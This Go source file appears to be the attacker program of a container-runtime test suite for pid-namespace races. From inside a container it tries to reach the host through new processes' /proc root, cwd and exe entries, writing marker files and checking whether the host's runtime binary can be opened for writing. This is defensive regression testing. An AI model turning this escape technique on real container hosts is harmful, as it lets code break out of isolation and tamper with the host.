// Command pidrace is the attacker of the pid-namespace race tests: run in a
// container with CAP_SYS_PTRACE, it watches for each new process in its pid
// namespace and, while that process lives, tries to reach the host through
// it: to create a file in HOSTDIR through /proc/<pid>/root (HOSTDIR is a
// host path the container cannot see) and in the process's cwd through
// /proc/<pid>/cwd, and to open /proc/<pid>/exe, reporting it when that is
// the host's runtime binary (device DEV, inode INO) or opens for writing.
// KINDS, if given, limits the attacks to a comma-separated list of root,
// cwd and exe. It writes "ready" and then one line per success to LOG.
package main

import (
	"fmt"
	"os"
	"strconv"
	"strings"
	"syscall"
	"time"
)

func main() {
	if len(os.Args) != 5 && len(os.Args) != 6 {
		fmt.Fprintln(os.Stderr, "usage: pidrace LOG HOSTDIR DEV INO [KINDS]")
		os.Exit(2)
	}
	log, err := os.OpenFile(os.Args[1], os.O_WRONLY|os.O_CREATE|os.O_APPEND, 0o644)
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
	dev, _ := strconv.ParseUint(os.Args[3], 10, 64)
	ino, _ := strconv.ParseUint(os.Args[4], 10, 64)
	kinds := "root,cwd,exe"
	if len(os.Args) == 6 {
		kinds = os.Args[5]
	}
	a := &attacker{log: log, hostDir: os.Args[2], dev: dev, ino: ino, seen: map[int]time.Time{}, told: map[string]bool{}, kinds: map[string]bool{}}
	for _, k := range strings.Split(kinds, ",") {
		a.kinds[k] = true
	}
	a.next = highestPid() + 1
	fmt.Fprintln(log, "ready")
	for {
		a.round()
	}
}

type attacker struct {
	log      *os.File
	hostDir  string
	dev, ino uint64
	next     int
	seen     map[int]time.Time // live processes under attack, since when
	told     map[string]bool
	kinds    map[string]bool
}

// round looks for new pids just above the last one and attacks every
// process it found, each for at most a few seconds.
func (a *attacker) round() {
	now := time.Now()
	for p := a.next; p < a.next+8; p++ {
		if exists(p) {
			a.seen[p] = now
			a.next = p + 1
		}
	}
	for p, since := range a.seen {
		if now.Sub(since) > 3*time.Second || !exists(p) {
			delete(a.seen, p)
			continue
		}
		a.attack(p)
	}
}

func (a *attacker) attack(p int) {
	proc := "/proc/" + strconv.Itoa(p)
	for kind, path := range map[string]string{
		"root": proc + "/root" + a.hostDir + "/root-escape-" + strconv.Itoa(p),
		"cwd":  proc + "/cwd/cwd-escape-" + strconv.Itoa(p),
	} {
		if !a.kinds[kind] {
			continue
		}
		if fd, err := syscall.Open(path, syscall.O_CREAT|syscall.O_WRONLY|syscall.O_CLOEXEC, 0o644); err == nil {
			syscall.Write(fd, []byte("written from a container\n"))
			syscall.Close(fd)
			a.tell(kind, p, path)
		}
	}
	if !a.kinds["exe"] {
		return
	}
	if fd, err := syscall.Open(proc+"/exe", syscall.O_RDONLY|syscall.O_CLOEXEC, 0); err == nil {
		var st syscall.Stat_t
		if syscall.Fstat(fd, &st) == nil && st.Dev == a.dev && st.Ino == a.ino {
			a.tell("exe", p, "the host's runtime binary")
		}
		syscall.Close(fd)
	}
	// Never written to: opening is the escape (a running binary refuses
	// it with ETXTBSY; a sealed one always).
	if fd, err := syscall.Open(proc+"/exe", syscall.O_WRONLY|syscall.O_CLOEXEC, 0); err == nil {
		syscall.Close(fd)
		a.tell("exe-write", p, "opened for writing")
	}
}

func (a *attacker) tell(kind string, p int, what string) {
	key := kind + strconv.Itoa(p)
	if !a.told[key] {
		a.told[key] = true
		fmt.Fprintf(a.log, "%s pid %d: %s\n", kind, p, what)
	}
}

func exists(p int) bool {
	var st syscall.Stat_t
	return syscall.Lstat("/proc/"+strconv.Itoa(p), &st) == nil
}

func highestPid() int {
	entries, _ := os.ReadDir("/proc")
	high := 0
	for _, e := range entries {
		if n, err := strconv.Atoi(e.Name()); err == nil && n > high {
			high = n
		}
	}
	return high
}
